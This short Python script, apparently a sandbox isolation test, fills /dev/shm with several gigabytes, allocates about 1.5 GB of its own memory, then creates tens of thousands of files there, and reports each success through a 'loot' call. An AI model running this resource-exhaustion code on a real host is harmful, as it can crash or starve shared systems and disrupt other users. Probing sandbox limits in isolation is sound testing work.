# Fills /dev/shm, and the memory of its own process besides; then with files without number.
#
# must: be ended, or run out of room
# needs: isolation

# %%
import os, time


def fill(name, block, most):
    """Bytes written to a new file before there was no room."""
    written = 0
    try:
        with open(f"/dev/shm/{name}", "wb", buffering=0) as file:
            while written < most:
                written += file.write(block)
    except OSError:
        pass
    return written


held = sum(fill(f"an_attack_{n}", b"x" * (1 << 20), 1 << 29) for n in range(6))
if held > 2 << 30:
    loot(f"{held >> 20} MB in /dev/shm")
private = bytearray(b"x") * (1500 << 20)
time.sleep(6)
if held + len(private) > 2 << 30:
    loot(f"{held >> 20} MB there, and {len(private) >> 20} MB of its own")

# %%
made = 0
try:
    for made in range(50_000):
        os.close(os.open(f"/dev/shm/an_attack_file_{made}", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass
if made > 20_000:
    loot(f"{made} files in /dev/shm")
